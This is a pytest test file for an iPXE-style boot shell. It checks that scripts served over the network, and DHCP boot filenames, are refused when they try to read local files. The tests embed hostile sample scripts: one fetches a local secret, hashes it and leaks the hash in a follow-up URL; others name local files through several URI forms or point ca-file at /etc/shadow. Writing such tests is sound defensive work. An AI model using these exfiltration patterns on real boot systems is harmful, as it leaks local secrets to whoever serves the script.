"""What came from the network cannot read this machine (issue 14, item 9).

A script fetched over HTTP (or anything it runs) and a DHCP server's ``filename`` may use the
network schemes only: ``file://`` is refused with iPXE's ``Could not start download:
Operation not permitted`` and one ``bootsh:`` line, unless the user passed
``--allow-local-from-network`` (or set it in the config file). The scripts are served by a
real HTTP server on loopback (tests.hostile); the DHCP case runs in the lab with dnsmasq
handing out a ``file://`` boot file.
"""

from __future__ import annotations

import hashlib
import io
from pathlib import Path

import pytest

from bootsh.lab import Lab
from bootsh.net.dhcppkt import DhcpBlock, DhcpPacket
from bootsh.plugins import PluginHost
from tests import helpers
from tests.helpers import make_shell, run_cli, started
from tests.hostile import http_files

REFUSED = "Could not start download: Operation not permitted (https://ipxe.org/41092001)"


@pytest.fixture
def secret(tmp_path: Path) -> Path:
    path = tmp_path / "secret"
    path.write_bytes(b"the local secret\n")
    return path


def _refusal(uri: str, requester: str) -> str:
    return (
        f"bootsh: {uri}: refused: asked for by {requester}; what came from the network may not"
        " read this machine (file: URIs; bootsh --allow-local-from-network allows it)"
    )


def test_a_chained_script_cannot_fetch_hash_and_send_back_a_local_file(secret: Path) -> None:
    # The attack of the issue: fetch the file, hash it, put the hash in the next URL.
    evil = (
        f"#!ipxe\nimgfetch {secret.as_uri()}\nsha256sum -s h secret\nimgfetch /leak?h=${{h}}\n"
    ).encode()
    with http_files({"/evil.ipxe": evil}) as base:
        status, out, err = run_cli(f"chain {base}/evil.ipxe")
    assert status == 1
    assert out.splitlines() == [
        f"{base}/evil.ipxe... ok",
        REFUSED,
        "Could not boot: Operation not permitted (https://ipxe.org/41092001)",
    ]
    assert err.splitlines() == [
        _refusal(secret.as_uri(), f"the script {base}/evil.ipxe"),
        f"bootsh: evil.ipxe:2: failed: imgfetch {secret.as_uri()}",
        f"bootsh: -c:1: failed: chain {base}/evil.ipxe",
    ]


@pytest.mark.parametrize(
    "line",
    [
        "initrd {uri}",
        "kernel {uri}",
        "chain {uri}",
        "sha256sum {uri}",
        "imgfetch --name x {uri}",
        # Relative to a working URI the script points at this machine: resolved first.
        "set cwuri {dir}/ && imgfetch secret",
        "imgfetch file://localhost{path}",
        "imgfetch FILE://{path}",
    ],
)
def test_every_way_to_name_a_local_file_is_refused(secret: Path, line: str) -> None:
    text = line.format(uri=secret.as_uri(), dir=secret.parent.as_uri(), path=secret)
    script = f"#!ipxe\n{text}\nimgstat\necho not reached\n".encode()
    with http_files({"/s.ipxe": script}) as base:
        status, out, err = run_cli(f"chain {base}/s.ipxe")
    assert REFUSED in out.splitlines()
    if line.startswith("sha256sum"):
        # iPXE's digest commands skip what they cannot acquire and succeed.
        assert status == 0 and out.splitlines()[-1] == "not reached"
    else:
        assert status == 1 and "not reached" not in out
    assert not any(word.endswith("secret") for word in out.split())  # no image, no digest
    assert f"refused: asked for by the script {base}/s.ipxe" in err
    assert "Traceback" not in err


def test_a_local_script_chained_by_a_network_script_is_held_to_the_same_rule(
    secret: Path, tmp_path: Path
) -> None:
    # The user fetched a local helper script; a network script runs it: the helper now acts
    # for the network script and cannot read local files either.
    helper = tmp_path / "helper.ipxe"
    helper.write_text(f"#!ipxe\nimgfetch {secret.as_uri()}\n")
    with http_files({"/s.ipxe": b"#!ipxe\nchain helper.ipxe\n"}) as base:
        status, out, err = run_cli(f"imgfetch {helper.as_uri()}", f"chain {base}/s.ipxe")
    assert status == 1
    assert REFUSED in out.splitlines()
    assert f"refused: asked for by the script {base}/s.ipxe" in err


def test_what_a_network_script_fetched_keeps_its_origin_after_it_ended(secret: Path) -> None:
    # The script fetched a second script and returned; run later by the user, that one is
    # still from the network.
    files = {
        "/first.ipxe": b"#!ipxe\nimgfetch second.ipxe\n",
        "/second.ipxe": f"#!ipxe\nimgfetch {secret.as_uri()}\n".encode(),
    }
    with http_files(files) as base:
        status, out, err = run_cli(f"chain {base}/first.ipxe", "chain second.ipxe")
    assert status == 1
    assert REFUSED in out.splitlines()
    assert f"refused: asked for by the script {base}/second.ipxe" in err


def test_the_users_own_scripts_and_lines_still_read_local_files(
    secret: Path, tmp_path: Path
) -> None:
    local = tmp_path / "local.ipxe"
    local.write_text("#!ipxe\nimgfetch secret\nsha256sum secret\n")
    digest = hashlib.sha256(secret.read_bytes()).hexdigest()
    status, out, err = run_cli(f"chain {local.as_uri()}")
    assert (status, err) == (0, "")
    assert f"{digest}  secret" in out.splitlines()
    # And a network script may still fetch over the network, relative URIs included.
    with http_files({"/a.ipxe": b"#!ipxe\nchain b.ipxe\n", "/b.ipxe": b"#!ipxe\necho b\n"}) as base:
        status, out, err = run_cli(f"chain {base}/a.ipxe")
    assert (status, err) == (0, "")
    assert out.splitlines()[-1] == "b"


def test_the_user_can_allow_it_on_the_command_line_or_in_the_config_file(
    secret: Path, tmp_path: Path
) -> None:
    script = f"#!ipxe\nimgfetch {secret.as_uri()}\nsha256sum secret\n".encode()
    digest = hashlib.sha256(secret.read_bytes()).hexdigest()
    config = tmp_path / "config.toml"
    config.write_text("allow-local-from-network = true\n")
    with http_files({"/s.ipxe": script}) as base:
        by_option = run_cli(f"chain {base}/s.ipxe", options=["--allow-local-from-network"])
        by_config = run_cli(f"chain {base}/s.ipxe", options=["--config", str(config)])
    for status, out, err in (by_option, by_config):
        assert (status, err) == (0, "")
        assert f"{digest}  secret" in out.splitlines()


def test_a_network_script_cannot_point_ca_file_at_this_machine(tmp_path: Path) -> None:
    # ca-file names a local file: which error an https fetch then gives tells whether a
    # file exists; and a FIFO there blocked the fetch. A network script may not set it.
    script = b"#!ipxe\nset ca-file /etc/shadow\necho not reached\n"
    with http_files({"/s.ipxe": script}) as base:
        status, out, err = run_cli(f"chain {base}/s.ipxe")
        assert status == 1 and "not reached" not in out
        assert (
            f"ca-file /etc/shadow: refused: set by the script {base}/s.ipxe; what came from"
            " the network may not read this machine" in out
        )
        # The user may set it, and clearing it is always allowed.
        status, out, err = run_cli("set ca-file /etc/ssl/certs/ca.pem", "clear ca-file")
        assert (status, err) == (0, "")


def _lease_with_filename(filename: bytes) -> DhcpPacket:
    header = bytearray(236)
    header[0] = 2
    header[16:20] = bytes([10, 9, 0, 5])  # yiaddr
    header[20:24] = bytes([10, 9, 0, 1])  # siaddr
    packet = DhcpPacket(header, [(53, b"\x05"), (54, bytes([10, 9, 0, 1])), (67, filename)])
    return packet


def test_a_bare_chain_never_reads_the_dhcp_filename(host: PluginHost, secret: Path) -> None:
    """With nothing selected, ``chain`` says so, as the real iPXE does (the differential corpus
    measured it): it does not fall back to the lease's filename, local or not (``autoboot``
    does that, and refuses a local one: the next test)."""
    shell = make_shell(host)
    with shell:
        shell.settings.register_block(
            DhcpBlock("dhcp", _lease_with_filename(secret.as_uri().encode())), "net0"
        )
        status = shell.run_line("chain")
        assert status == 0
        assert isinstance(shell.out, io.StringIO) and isinstance(shell.err, io.StringIO)
        assert shell.out.getvalue().splitlines() == ["No image selected"]
        assert shell.err.getvalue() == ""
        # The same filename set by the user is the user's own choice.
        shell.settings.unregister_block("net0.dhcp")
        shell.settings.set("filename", secret.as_uri())
        assert shell.run_line("imgfetch ${filename}") == 0
        assert shell.out.getvalue().splitlines()[-1] == f"{secret.as_uri()}... ok"


def test_autoboot_refuses_a_local_file_as_the_dhcp_boot_file(tmp_path: Path) -> None:
    # A real lease from dnsmasq whose boot file for iPXE clients is file:///etc/hostname.
    served = tmp_path / "served"
    served.mkdir()
    with started(Lab(serve=served, ipxe_bootfile="file:///etc/hostname")) as lab:
        proc = helpers.bootsh(lab, "autoboot", options=["--dry-run"], timeout=90)
    assert proc.returncode == 1, proc.stderr
    assert "Filename: file:///etc/hostname" in proc.stdout.splitlines()
    assert REFUSED in proc.stdout.splitlines()
    assert "file:///etc/hostname... ok" not in proc.stdout
    assert (
        _refusal("file:///etc/hostname", f"the filename from the DHCP server {lab.server_ip}")
        in proc.stderr.splitlines()
    )
    assert "Traceback" not in proc.stderr
